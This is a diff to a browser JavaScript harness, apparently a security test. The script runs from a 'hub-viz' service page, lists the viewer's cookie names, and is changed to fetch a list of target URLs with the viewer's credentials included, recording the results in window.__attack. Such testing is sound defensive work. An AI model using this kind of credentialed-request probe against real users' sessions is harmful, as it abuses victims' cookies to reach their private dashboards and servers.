@@ -9,7 +9,7 @@
   var SERVICE = location.protocol + "//hub-viz--service." + domain + port + "/services/hub-viz/";
   var params = new URLSearchParams(document.body.getAttribute("data-targets") || "");
   var victim = params.get("victim") || "admin";
-  var privateUrl = params.get("private") || "";
+  var targets = (params.get("targets") || "").split(",").filter(Boolean);
   var results = {};
 
   function outcome(promise) {
@@ -64,10 +64,12 @@
       return document.cookie.split(";").map(function (c) { return c.split("=")[0].trim(); })
         .filter(Boolean).join(",") || "none";
     }),
-    attempt("private_dashboard", function () {
-      return privateUrl ? outcome(fetch(privateUrl, {credentials: "include"})) : "no target";
-    }),
-  ]).then(function () {
+  ].concat(targets.map(function (url) {
+    // the viewer's other dashboards and servers, which the viewer's cookies open
+    return attempt("reach " + url, function () {
+      return outcome(fetch(url, {credentials: "include"}));
+    });
+  }))).then(function () {
     window.__attack = results;
     document.getElementById("attack-results").textContent = "done";
   });
